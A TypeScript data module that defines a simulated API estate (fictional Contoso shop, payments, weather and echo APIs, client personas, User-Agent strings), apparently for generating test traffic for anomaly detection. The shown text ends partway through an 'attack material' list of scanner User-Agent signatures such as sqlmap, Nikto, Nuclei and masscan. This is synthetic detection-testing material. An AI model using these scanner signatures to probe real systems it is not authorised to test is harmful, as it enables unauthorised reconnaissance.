/**
 * The simulated API estate: APIs, their operations with typed parameters, size/latency/status
 * profiles, client personas and realistic User-Agent strings. All data, no I/O.
 */
import type { Rng } from './prng';

/** Data type of a parameter value, as a detector of "unseen parameter type" would classify it. */
export type ParamKind = 'integer' | 'number' | 'boolean' | 'date' | 'uuid' | 'email' | 'string';

/** Makes a parameter value; `time` is the request's event time (epoch ms), for date parameters. */
export type ValueGen = (rng: Rng, time: number) => string;

export interface ParamSpec {
  name: string;
  kind: ParamKind;
  gen: ValueGen;
  /** Probability the query parameter is present (path parameters are always present). */
  presence: number;
}

/** Log-normal profile: median and sigma of the logarithm. */
export interface LogNormal {
  median: number;
  sigma: number;
}

export interface OperationSpec {
  apiId: string;
  operationId: string;
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'HEAD';
  /** Path template below the API's path, e.g. "/products/{productId}". */
  template: string;
  pathParams: ParamSpec[];
  queryParams: ParamSpec[];
  /** Request body size in bytes, when the operation takes a body. */
  body?: LogNormal;
  /** Response body size of a successful call, bytes. */
  response: LogNormal;
  /** Backend time of a successful call, ms. */
  latency: LogNormal;
  /** Status codes and their weights. */
  statuses: ReadonlyArray<readonly [number, number]>;
  /** Needs a user token (401s can come from APIM's validate-jwt). */
  auth: boolean;
  /** Served through APIM's response cache (cache hit / miss). */
  cached: boolean;
}

export interface ApiSpec {
  apiId: string;
  displayName: string;
  /** API URL suffix in APIM, without slashes, e.g. "shop/v1". */
  path: string;
  /** Backend service URL (no trailing slash). */
  backend: string;
  operations: OperationSpec[];
}

// ---------------------------------------------------------------------------------------------
// Value generators
// ---------------------------------------------------------------------------------------------

const DAY_MS = 86_400_000;

function isoDate(ms: number): string {
  return new Date(ms).toISOString().slice(0, 10);
}

/** Integer with a geometric distribution starting at `min` (most values small), capped at `max`. */
export function geometricInt(min: number, max: number, p: number): ValueGen {
  return (rng) => {
    let k = min;
    while (k < max && !rng.chance(p)) k++;
    return String(k);
  };
}

/** Integer spread log-uniformly over [min, max] (a few popular small ids, a long tail). */
export function logUniformInt(min: number, max: number): ValueGen {
  return (rng) => String(Math.min(max, Math.floor(Math.exp(rng.uniform(Math.log(min), Math.log(max + 1))))));
}

export function uniformInt(min: number, max: number): ValueGen {
  return (rng) => String(rng.int(min, max));
}

export function oneOf(values: readonly string[]): ValueGen {
  return (rng) => rng.pick(values);
}

/** A date (YYYY-MM-DD) between `maxDaysBack` and `minDaysBack` days before the request. */
export function recentDate(minDaysBack: number, maxDaysBack: number): ValueGen {
  return (rng, time) => isoDate(time - rng.int(minDaysBack, maxDaysBack) * DAY_MS);
}

export const uuidValue: ValueGen = (rng) => rng.uuid();

export const boolValue: ValueGen = (rng) => (rng.chance(0.6) ? 'true' : 'false');

const FIRST_NAMES = [
  'anna', 'ben', 'carla', 'david', 'elena', 'felix', 'greta', 'hugo', 'ines', 'jonas', 'karin', 'lukas',
  'maria', 'noah', 'olga', 'paul', 'rosa', 'sven', 'tina', 'ugo', 'vera', 'wim', 'yara', 'zoe',
  'liam', 'emma', 'oliver', 'sophie', 'james', 'chloe', 'lucas', 'mila', 'arjun', 'priya', 'kenji', 'aiko',
];
const LAST_NAMES = [
  'smith', 'muller', 'rossi', 'dubois', 'jansen', 'kowalski', 'novak', 'garcia', 'silva', 'nielsen',
  'berg', 'schmidt', 'martin', 'bernard', 'ferrari', 'costa', 'lopez', 'peeters', 'horvat', 'olsen',
  'tanaka', 'sato', 'kumar', 'patel', 'brown', 'wilson', 'taylor', 'walker', 'young', 'king',
];
const MAIL_DOMAINS = ['gmail.com', 'outlook.com', 'yahoo.com', 'icloud.com', 'gmx.de', 'proton.me', 'web.de', 'hotmail.com'];

/** A customer e-mail address; `serial` makes it unique when given. */
export function emailAddress(rng: Rng, serial?: number): string {
  const first = rng.pick(FIRST_NAMES);
  const last = rng.pick(LAST_NAMES);
  const sep = rng.pick(['.', '_', '', '.']);
  const suffix = serial !== undefined ? String(serial) : rng.chance(0.4) ? String(rng.int(1, 99)) : '';
  return `${first}${sep}${last}${suffix}@${rng.pick(MAIL_DOMAINS)}`;
}

export const emailValue: ValueGen = (rng) => emailAddress(rng);

/** Valid promotion codes; most coupon checks use one of these. */
export const PROMO_CODES = [
  'WELCOME10', 'SPRING24', 'SUMMER25', 'FREESHIP', 'BLACKFRI', 'CYBERMON', 'VIPGOLD', 'STUDENT15',
  'NEWSLTR5', 'APPONLY20', 'XMAS2026', 'LOYALTY7',
];
const CODE_LETTERS = 'ABCDEFGHJKLMNPQRSTUVWXYZ';
const CODE_CHARS = 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789';

/** A random 8-character coupon-like code; always starts with a letter (so it never looks numeric). */
export function randomCode(rng: Rng): string {
  let out = CODE_LETTERS.charAt(rng.int(0, CODE_LETTERS.length - 1));
  for (let i = 1; i < 8; i++) out += CODE_CHARS.charAt(rng.int(0, CODE_CHARS.length - 1));
  return out;
}

const couponValue: ValueGen = (rng) => (rng.chance(0.75) ? rng.pick(PROMO_CODES) : randomCode(rng));

const SEARCH_WORDS = [
  'wireless', 'headphones', 'laptop', 'stand', 'usb', 'cable', 'garden', 'hose', 'lego', 'puzzle',
  'running', 'shoes', 'rain', 'jacket', 'coffee', 'grinder', 'kettle', 'blender', 'desk', 'lamp',
  'yoga', 'mat', 'backpack', 'phone', 'case', 'charger', 'monitor', 'keyboard', 'mouse', 'novel',
  'cookbook', 'tent', 'sleeping', 'bag', 'bicycle', 'helmet', 'watch', 'sunglasses', 'mug', 'pillow',
];

/** Free-text search: one to three words (letters only). */
const searchText: ValueGen = (rng) => {
  const n = rng.pick([1, 1, 2, 2, 2, 3]);
  const words: string[] = [];
  for (let i = 0; i < n; i++) words.push(rng.pick(SEARCH_WORDS));
  return words.join(' ');
};

/** A longer but ordinary search phrase (used by the latency attack: expensive, not malformed). */
export function longSearchText(rng: Rng): string {
  const words: string[] = [];
  const n = rng.int(6, 10);
  for (let i = 0; i < n; i++) words.push(rng.pick(SEARCH_WORDS));
  return words.join(' ');
}

const CITIES = [
  'Amsterdam', 'Berlin', 'Paris', 'Madrid', 'Rome', 'Vienna', 'Zurich', 'Oslo', 'Stockholm', 'Dublin',
  'London', 'Lisbon', 'Prague', 'Warsaw', 'New York', 'Seattle', 'Toronto', 'Tokyo', 'Sydney', 'Singapore',
];

/** A latitude/longitude pair around one of a few metro areas, 4 decimals (always a decimal point). */
const CITY_COORDS: ReadonlyArray<readonly [number, number]> = [
  [52.37, 4.89], [52.52, 13.405], [48.857, 2.352], [40.417, -3.704], [41.9, 12.496], [48.208, 16.373],
  [47.377, 8.541], [59.913, 10.752], [51.507, -0.128], [40.713, -74.006], [47.606, -122.332], [35.676, 139.65],
];

function coordinate(rng: Rng, which: 0 | 1): string {
  const base = rng.pick(CITY_COORDS);
  const value = base[which] + rng.uniform(-0.25, 0.25);
  return value.toFixed(4);
}

// ---------------------------------------------------------------------------------------------
// Parameter and operation builders
// ---------------------------------------------------------------------------------------------

function q(name: string, kind: ParamKind, gen: ValueGen, presence: number): ParamSpec {
  return { name, kind, gen, presence };
}

function p(name: string, kind: ParamKind, gen: ValueGen): ParamSpec {
  return { name, kind, gen, presence: 1 };
}

/** Typical status mixes. */
const READ_PUBLIC: ReadonlyArray<readonly [number, number]> = [
  [200, 975], [400, 8], [404, 4], [429, 3], [500, 1.5], [502, 0.5], [503, 0.6], [504, 0.3],
];
const READ_ITEM: ReadonlyArray<readonly [number, number]> = [
  [200, 950], [404, 38], [400, 5], [429, 3], [500, 1.5], [502, 0.5], [503, 0.6], [504, 0.3],
];
const READ_AUTH: ReadonlyArray<readonly [number, number]> = [
  [200, 945], [401, 30], [403, 5], [404, 12], [429, 3], [500, 1.5], [502, 0.5], [503, 0.6], [504, 0.3],
];
const CREATE_AUTH: ReadonlyArray<readonly [number, number]> = [
  [201, 930], [400, 35], [401, 20], [409, 8], [429, 3], [500, 2], [502, 0.5], [503, 0.8], [504, 0.4],
];
const UPDATE_AUTH: ReadonlyArray<readonly [number, number]> = [
  [200, 930], [400, 35], [401, 20], [404, 8], [409, 4], [500, 2], [502, 0.5], [503, 0.5],
];
const DELETE_AUTH: ReadonlyArray<readonly [number, number]> = [
  [204, 920], [401, 25], [404, 40], [409, 10], [500, 2], [503, 0.5],
];

interface OpInit {
  id: string;
  method: OperationSpec['method'];
  template: string;
  pathParams?: ParamSpec[];
  query?: ParamSpec[];
  body?: LogNormal;
  response: LogNormal;
  latency: LogNormal;
  statuses: ReadonlyArray<readonly [number, number]>;
  auth?: boolean;
  cached?: boolean;
}

function api(apiId: string, displayName: string, path: string, backend: string, ops: OpInit[]): ApiSpec {
  return {
    apiId,
    displayName,
    path,
    backend,
    operations: ops.map((o) => ({
      apiId,
      operationId: o.id,
      method: o.method,
      template: o.template,
      pathParams: o.pathParams ?? [],
      queryParams: o.query ?? [],
      ...(o.body ? { body: o.body } : {}),
      response: o.response,
      latency: o.latency,
      statuses: o.statuses,
      auth: o.auth ?? false,
      cached: o.cached ?? false,
    })),
  };
}

const productId = p('productId', 'integer', logUniformInt(1000, 60000));
const pageParam = (presence: number): ParamSpec => q('page', 'integer', geometricInt(1, 40, 0.35), presence);
const currencies = ['EUR', 'USD', 'GBP', 'CHF', 'SEK'];

/** The APIs, in a fixed order (their order decides which service hosts them). */
export const APIS: readonly ApiSpec[] = [
  api('shop-api', 'Shop API', 'shop/v1', 'https://app-contoso-shop-prod.azurewebsites.net/api', [
    {
      id: 'list-products', method: 'GET', template: '/products',
      query: [
        pageParam(0.7),
        q('size', 'integer', oneOf(['10', '20', '20', '50']), 0.6),
        q('sort', 'string', oneOf(['price_asc', 'price_desc', 'newest', 'rating', 'relevance']), 0.4),
        q('category', 'string', oneOf(['electronics', 'books', 'garden', 'toys', 'clothing', 'sports', 'home', 'beauty']), 0.5),
        q('inStock', 'boolean', boolValue, 0.15),
      ],
      response: { median: 14_000, sigma: 0.45 }, latency: { median: 85, sigma: 0.45 }, statuses: READ_PUBLIC,
    },
    {
      id: 'get-product', method: 'GET', template: '/products/{productId}', pathParams: [productId],
      response: { median: 3_200, sigma: 0.35 }, latency: { median: 35, sigma: 0.4 }, statuses: READ_ITEM,
    },
    {
      id: 'search-products', method: 'GET', template: '/products/search',
      query: [q('q', 'string', searchText, 1), pageParam(0.3), q('inStock', 'boolean', boolValue, 0.2)],
      response: { median: 9_000, sigma: 0.55 }, latency: { median: 160, sigma: 0.55 }, statuses: READ_PUBLIC,
    },
    {
      id: 'get-featured-products', method: 'GET', template: '/products/featured',
      response: { median: 6_000, sigma: 0.15 }, latency: { median: 28, sigma: 0.35 },
      statuses: [[200, 995], [429, 2], [500, 1], [503, 0.5]], cached: true,
    },
    {
      id: 'list-product-reviews', method: 'GET', template: '/products/{productId}/reviews', pathParams: [productId],
      query: [pageParam(0.4), q('since', 'date', recentDate(7, 365), 0.2), q('rating', 'integer', uniformInt(1, 5), 0.15)],
      response: { median: 5_000, sigma: 0.6 }, latency: { median: 60, sigma: 0.45 }, statuses: READ_ITEM,
    },
    {
      id: 'get-cart', method: 'GET', template: '/cart',
      response: { median: 1_600, sigma: 0.5 }, latency: { median: 40, sigma: 0.4 }, statuses: READ_AUTH, auth: true,
    },
    {
      id: 'add-cart-item', method: 'POST', template: '/cart/items',
      body: { median: 180, sigma: 0.25 }, response: { median: 1_700, sigma: 0.45 }, latency: { median: 70, sigma: 0.4 },
      statuses: CREATE_AUTH, auth: true,
    },
    {
      id: 'remove-cart-item', method: 'DELETE', template: '/cart/items/{itemId}', pathParams: [p('itemId', 'uuid', uuidValue)],
      response: { median: 0, sigma: 0 }, latency: { median: 45, sigma: 0.4 }, statuses: DELETE_AUTH, auth: true,
    },
    {
      id: 'create-order', method: 'POST', template: '/orders',
      body: { median: 1_300, sigma: 0.4 }, response: { median: 900, sigma: 0.3 }, latency: { median: 380, sigma: 0.4 },
      statuses: CREATE_AUTH, auth: true,
    },
    {
      id: 'get-order', method: 'GET', template: '/orders/{orderId}', pathParams: [p('orderId', 'uuid', uuidValue)],
      response: { median: 2_100, sigma: 0.4 }, latency: { median: 55, sigma: 0.4 }, statuses: READ_AUTH, auth: true,
    },
    {
      id: 'list-orders', method: 'GET', template: '/orders',
      query: [
        q('status', 'string', oneOf(['pending', 'paid', 'shipped', 'delivered', 'cancelled']), 0.4),
        q('from', 'date', recentDate(30, 180), 0.25),
        q('to', 'date', recentDate(0, 29), 0.15),
        pageParam(0.3),
      ],
      response: { median: 7_000, sigma: 0.6 }, latency: { median: 110, sigma: 0.5 }, statuses: READ_AUTH, auth: true,
    },
    {
      id: 'cancel-order', method: 'DELETE', template: '/orders/{orderId}', pathParams: [p('orderId', 'uuid', uuidValue)],
      response: { median: 0, sigma: 0 }, latency: { median: 240, sigma: 0.4 }, statuses: DELETE_AUTH, auth: true,
    },
    {
      id: 'login', method: 'POST', template: '/auth/login',
      body: { median: 90, sigma: 0.2 }, response: { median: 1_400, sigma: 0.1 }, latency: { median: 210, sigma: 0.3 },
      statuses: [[200, 860], [401, 110], [400, 18], [429, 8], [500, 1.5], [503, 0.5]],
    },
    {
      id: 'refresh-token', method: 'POST', template: '/auth/token',
      body: { median: 700, sigma: 0.1 }, response: { median: 1_450, sigma: 0.1 }, latency: { median: 90, sigma: 0.3 },
      statuses: [[200, 960], [401, 32], [400, 6], [500, 1], [503, 0.5]],
    },
    {
      id: 'get-user-by-email', method: 'GET', template: '/users',
      query: [q('email', 'email', emailValue, 1)],
      response: { median: 800, sigma: 0.25 }, latency: { median: 50, sigma: 0.4 },
      statuses: [[200, 900], [404, 75], [401, 15], [403, 8], [500, 1.5]], auth: true,
    },
    {
      id: 'update-user', method: 'PATCH', template: '/users/{userId}', pathParams: [p('userId', 'uuid', uuidValue)],
      body: { median: 400, sigma: 0.4 }, response: { median: 850, sigma: 0.25 }, latency: { median: 95, sigma: 0.4 },
      statuses: UPDATE_AUTH, auth: true,
    },
    {
      id: 'validate-coupon', method: 'GET', template: '/coupons/validate',
      query: [q('code', 'string', couponValue, 1)],
      response: { median: 350, sigma: 0.2 }, latency: { median: 30, sigma: 0.35 },
      statuses: [[200, 700], [404, 280], [400, 15], [429, 3], [500, 1]],
    },
  ]),
  api('weather-api', 'Weather API', 'weather', 'https://func-weather-prod.azurewebsites.net/api', [
    {
      id: 'get-current-weather', method: 'GET', template: '/current',
      query: [
        q('lat', 'number', (rng) => coordinate(rng, 0), 1),
        q('lon', 'number', (rng) => coordinate(rng, 1), 1),
        q('units', 'string', oneOf(['metric', 'imperial']), 0.5),
      ],
      response: { median: 1_200, sigma: 0.15 }, latency: { median: 60, sigma: 0.4 }, statuses: READ_PUBLIC, cached: true,
    },
    {
      id: 'get-forecast', method: 'GET', template: '/forecast',
      query: [q('city', 'string', oneOf(CITIES), 1), q('days', 'integer', uniformInt(1, 10), 0.6), q('units', 'string', oneOf(['metric', 'imperial']), 0.4)],
      response: { median: 4_500, sigma: 0.35 }, latency: { median: 120, sigma: 0.45 }, statuses: READ_PUBLIC,
    },
    {
      id: 'get-weather-alerts', method: 'GET', template: '/alerts',
      query: [q('region', 'string', oneOf(['eu-west', 'eu-central', 'eu-north', 'us-east', 'us-west', 'apac']), 1)],
      response: { median: 900, sigma: 0.5 }, latency: { median: 45, sigma: 0.4 }, statuses: READ_PUBLIC,
    },
  ]),
  api('payments-api', 'Payments API', 'payments/v2', 'https://payments-core.contoso-internal.net/v2', [
    {
      id: 'create-payment', method: 'POST', template: '/payments',
      body: { median: 650, sigma: 0.25 }, response: { median: 1_100, sigma: 0.2 }, latency: { median: 420, sigma: 0.35 },
      statuses: [[201, 950], [400, 20], [402, 15], [401, 5], [409, 5], [500, 2], [502, 0.5], [503, 0.8], [504, 0.5]], auth: true,
    },
    {
      id: 'get-payment', method: 'GET', template: '/payments/{paymentId}', pathParams: [p('paymentId', 'uuid', uuidValue)],
      response: { median: 1_300, sigma: 0.2 }, latency: { median: 55, sigma: 0.35 }, statuses: READ_AUTH, auth: true,
    },
    {
      id: 'list-payments', method: 'GET', template: '/payments',
      query: [
        q('from', 'date', recentDate(1, 90), 0.6),
        q('to', 'date', recentDate(0, 0), 0.4),
        q('limit', 'integer', oneOf(['25', '50', '100']), 0.5),
        q('currency', 'string', oneOf(currencies), 0.3),
        q('status', 'string', oneOf(['succeeded', 'failed', 'pending', 'refunded']), 0.2),
      ],
      response: { median: 18_000, sigma: 0.6 }, latency: { median: 140, sigma: 0.45 }, statuses: READ_AUTH, auth: true,
    },
    {
      id: 'refund-payment', method: 'POST', template: '/payments/{paymentId}/refunds', pathParams: [p('paymentId', 'uuid', uuidValue)],
      body: { median: 220, sigma: 0.2 }, response: { median: 700, sigma: 0.2 }, latency: { median: 350, sigma: 0.35 },
      statuses: CREATE_AUTH, auth: true,
    },
    {
      id: 'list-invoices', method: 'GET', template: '/invoices',
      query: [q('customerId', 'uuid', uuidValue, 0.5), q('paid', 'boolean', boolValue, 0.4), pageParam(0.3)],
      response: { median: 9_000, sigma: 0.55 }, latency: { median: 120, sigma: 0.45 }, statuses: READ_AUTH, auth: true,
    },
    {
      id: 'get-balance', method: 'GET', template: '/balance',
      query: [q('currency', 'string', oneOf(currencies), 0.6)],
      response: { median: 600, sigma: 0.15 }, latency: { median: 40, sigma: 0.35 }, statuses: READ_AUTH, auth: true,
    },
  ]),
  api('echo-api', 'Echo API', 'echo', 'http://echoapi.cloudapp.net/api', [
    {
      id: 'retrieve-resource', method: 'GET', template: '/resource',
      query: [q('param1', 'string', oneOf(['sample']), 1), q('param2', 'integer', uniformInt(1, 500), 0.5)],
      response: { median: 900, sigma: 0.2 }, latency: { median: 25, sigma: 0.4 }, statuses: READ_PUBLIC,
    },
    {
      id: 'create-resource', method: 'POST', template: '/resource',
      body: { median: 300, sigma: 0.3 }, response: { median: 450, sigma: 0.2 }, latency: { median: 30, sigma: 0.4 },
      statuses: [[201, 980], [400, 15], [500, 1.5], [503, 0.5]],
    },
    {
      id: 'modify-resource', method: 'PUT', template: '/resource',
      body: { median: 300, sigma: 0.3 }, response: { median: 450, sigma: 0.2 }, latency: { median: 30, sigma: 0.4 },
      statuses: [[200, 980], [400, 15], [500, 1.5], [503, 0.5]],
    },
    {
      id: 'remove-resource', method: 'DELETE', template: '/resource',
      response: { median: 0, sigma: 0 }, latency: { median: 25, sigma: 0.4 }, statuses: [[200, 985], [404, 12], [500, 1.5]],
    },
    {
      id: 'retrieve-header-only', method: 'HEAD', template: '/resource',
      response: { median: 0, sigma: 0 }, latency: { median: 20, sigma: 0.4 }, statuses: [[200, 995], [500, 1]],
    },
    {
      id: 'retrieve-resource-cached', method: 'GET', template: '/resource-cached',
      query: [q('param1', 'string', oneOf(['sample']), 1), q('param2', 'integer', uniformInt(1, 500), 0.6)],
      response: { median: 900, sigma: 0.2 }, latency: { median: 25, sigma: 0.4 }, statuses: READ_PUBLIC, cached: true,
    },
  ]),
];

/** Every query parameter name the baseline ever sends (attacks use names outside this set). */
export const KNOWN_QUERY_PARAM_NAMES: ReadonlySet<string> = new Set(
  APIS.flatMap((a) => a.operations.flatMap((o) => o.queryParams.map((qp) => qp.name))),
);

export function findOperation(apiId: string, operationId: string): OperationSpec {
  const found = APIS.find((a) => a.apiId === apiId)?.operations.find((o) => o.operationId === operationId);
  if (!found) throw new Error(`unknown operation ${apiId}/${operationId}`);
  return found;
}

export function findApi(apiId: string): ApiSpec {
  const found = APIS.find((a) => a.apiId === apiId);
  if (!found) throw new Error(`unknown API ${apiId}`);
  return found;
}

// ---------------------------------------------------------------------------------------------
// Services
// ---------------------------------------------------------------------------------------------

export interface ServiceTemplate {
  name: string;
  resourceGroup: string;
  location: string;
  deploymentVersion: string;
}

export const SERVICE_TEMPLATES: readonly ServiceTemplate[] = [
  { name: 'contoso-shop-apim', resourceGroup: 'RG-SHOP-PROD', location: 'West Europe', deploymentVersion: '0.47.20113.0' },
  { name: 'contoso-partner-apim', resourceGroup: 'RG-PARTNER-PROD', location: 'North Europe', deploymentVersion: '0.47.20113.0' },
  { name: 'contoso-pay-apim', resourceGroup: 'RG-PAYMENTS-PROD', location: 'Germany West Central', deploymentVersion: '0.46.19874.0' },
  { name: 'contoso-labs-apim', resourceGroup: 'RG-LABS-DEV', location: 'East US', deploymentVersion: '0.47.20113.0' },
];

// ---------------------------------------------------------------------------------------------
// Personas (kinds of clients)
// ---------------------------------------------------------------------------------------------

export type PersonaId = 'webDesktop' | 'webMobile' | 'mobileApp' | 'partner' | 'device';

export interface Persona {
  id: PersonaId;
  /** Share of the total request volume. */
  volumeShare: number;
  /** Share of the client population (the partner persona uses a fixed small count instead). */
  clientShare: number;
  /** How strongly the persona follows the daily/weekly rhythm (1 = fully, 0 = flat). */
  rhythm: number;
  /** Share of clients on IPv6. */
  ipv6Share: number;
  /** Operation weights, keyed "apiId/operationId". */
  operations: Readonly<Record<string, number>>;
  userAgents: readonly string[];
  /** apimSubscriptionId values this persona uses. */
  subscriptions: readonly string[];
  /** Chance that a request goes to a path APIM cannot match (stale links, old app versions). */
  unmatchedRate: number;
  unmatchedPaths: readonly string[];
}

const DESKTOP_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.51',
];

const MOBILE_WEB_UAS = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Android 14; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0',
];

const APP_UAS = [
  'MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)',
  'MyShop/5.2.0 (iPhone; iOS 16.7; Scale/2.00)',
  'MyShop/5.1.9 (iPad; iOS 17.3; Scale/2.00)',
  'MyShop-Android/5.2.1 (Linux; U; Android 14; Pixel 8 Build/AP1A.240405.002)',
  'MyShop-Android/5.2.0 (Linux; U; Android 13; SM-A546B Build/TP1A.220624.014)',
  'Dalvik/2.1.0 (Linux; U; Android 12; M2101K6G Build/SKQ1.210908.001)',
  'okhttp/4.12.0',
];

const PARTNER_UAS = [
  'azsdk-java-contoso-payments/1.4.2 (17.0.10; Linux; 5.15.0-1057-azure)',
  'azsdk-net-Contoso.Payments/2.1.0 (.NET 8.0.4; Microsoft Windows 10.0.20348)',
  'azsdk-js-contoso-payments/1.0.3 core-rest-pipeline/1.15.2 Node/20.12.2 OS/(x64-Linux-5.15.0-1061-azure)',
  'Apache-HttpClient/4.5.14 (Java/17.0.9)',
  'okhttp/4.11.0',
  'ReactorNetty/1.1.18',
];

const DEVICE_UAS = [
  'WeatherStation/2.3.7 (ESP32; fw 2.3.7)',
  'WeatherWidget/1.8 CFNetwork/1494.0.7 Darwin/23.4.0',
  'SmartHomeHub/4.1.2 (Linux armv7l)',
];

/** Every User-Agent a baseline client may send (for tests and documentation). */
export const BASELINE_USER_AGENTS: readonly string[] = [...DESKTOP_UAS, ...MOBILE_WEB_UAS, ...APP_UAS, ...PARTNER_UAS, ...DEVICE_UAS];

/** What Tor Browser sends (a Firefox ESR string). */
export const TOR_BROWSER_UA = 'Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0';

const WEB_OPERATIONS: Record<string, number> = {
  'shop-api/list-products': 22, 'shop-api/get-product': 25, 'shop-api/search-products': 14,
  'shop-api/get-featured-products': 8, 'shop-api/list-product-reviews': 6, 'shop-api/get-cart': 6,
  'shop-api/add-cart-item': 4, 'shop-api/remove-cart-item': 1, 'shop-api/create-order': 1.5,
  'shop-api/get-order': 1.5, 'shop-api/list-orders': 2, 'shop-api/cancel-order': 0.2, 'shop-api/login': 2.5,
  'shop-api/refresh-token': 2, 'shop-api/get-user-by-email': 0.4, 'shop-api/update-user': 0.3,
  'shop-api/validate-coupon': 1, 'payments-api/create-payment': 1.2, 'payments-api/get-payment': 0.5,
};

const WEB_UNMATCHED = ['/favicon.ico', '/robots.txt', '/shop/v1/product', '/shop/v1/products/top', '/shop/v1/cart/checkout'];

export const PERSONAS: readonly Persona[] = [
  {
    id: 'webDesktop', volumeShare: 0.35, clientShare: 0.4, rhythm: 1, ipv6Share: 0.15,
    operations: WEB_OPERATIONS, userAgents: DESKTOP_UAS, subscriptions: ['web-storefront'],
    unmatchedRate: 0.002, unmatchedPaths: WEB_UNMATCHED,
  },
  {
    id: 'webMobile', volumeShare: 0.2, clientShare: 0.28, rhythm: 1, ipv6Share: 0.3,
    operations: WEB_OPERATIONS, userAgents: MOBILE_WEB_UAS, subscriptions: ['web-storefront'],
    unmatchedRate: 0.002, unmatchedPaths: WEB_UNMATCHED,
  },
  {
    id: 'mobileApp', volumeShare: 0.25, clientShare: 0.25, rhythm: 0.9, ipv6Share: 0.35,
    operations: {
      'shop-api/list-products': 18, 'shop-api/get-product': 22, 'shop-api/search-products': 10,
      'shop-api/get-featured-products': 12, 'shop-api/list-product-reviews': 5, 'shop-api/get-cart': 8,
      'shop-api/add-cart-item': 4, 'shop-api/remove-cart-item': 1, 'shop-api/create-order': 2,
      'shop-api/get-order': 3, 'shop-api/list-orders': 3, 'shop-api/cancel-order': 0.3, 'shop-api/login': 1,
      'shop-api/refresh-token': 5, 'shop-api/update-user': 0.5, 'shop-api/validate-coupon': 1.5,
      'payments-api/create-payment': 1.5, 'weather-api/get-current-weather': 2,
    },
    userAgents: APP_UAS, subscriptions: ['mobile-app-ios', 'mobile-app-android'],
    unmatchedRate: 0.001, unmatchedPaths: ['/shop/v1/cart/checkout', '/.well-known/apple-app-site-association'],
  },
  {
    id: 'partner', volumeShare: 0.12, clientShare: 0, rhythm: 0.35, ipv6Share: 0,
    operations: {
      'payments-api/create-payment': 20, 'payments-api/get-payment': 25, 'payments-api/list-payments': 10,
      'payments-api/refund-payment': 2, 'payments-api/list-invoices': 10, 'payments-api/get-balance': 8,
      'shop-api/get-order': 5, 'shop-api/list-orders': 8, 'echo-api/retrieve-resource': 6,
      'echo-api/create-resource': 1, 'echo-api/modify-resource': 1, 'echo-api/remove-resource': 0.5,
      'echo-api/retrieve-header-only': 1, 'echo-api/retrieve-resource-cached': 4,
    },
    userAgents: PARTNER_UAS, subscriptions: ['partner-fabrikam', 'partner-northwind', 'partner-tailspin', 'partner-wingtip', 'partner-adventureworks', 'partner-litware'],
    unmatchedRate: 0, unmatchedPaths: [],
  },
  {
    id: 'device', volumeShare: 0.08, clientShare: 0.07, rhythm: 0.15, ipv6Share: 0.1,
    operations: { 'weather-api/get-current-weather': 60, 'weather-api/get-forecast': 30, 'weather-api/get-weather-alerts': 10 },
    userAgents: DEVICE_UAS, subscriptions: ['weather-devices'],
    unmatchedRate: 0, unmatchedPaths: [],
  },
];

/** Number of partner (server-to-server) clients; fixed, they are few and heavy. */
export const PARTNER_CLIENTS = 14;

// ---------------------------------------------------------------------------------------------
// Attack material
// ---------------------------------------------------------------------------------------------

/** Suspicious User-Agents: scanner names and code-execution payloads. */
export const SUSPICIOUS_USER_AGENTS: readonly string[] = [
  'sqlmap/1.8.4#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'gobuster/3.6',
  'Fuzz Faster U Fool v2.1.0-dev',
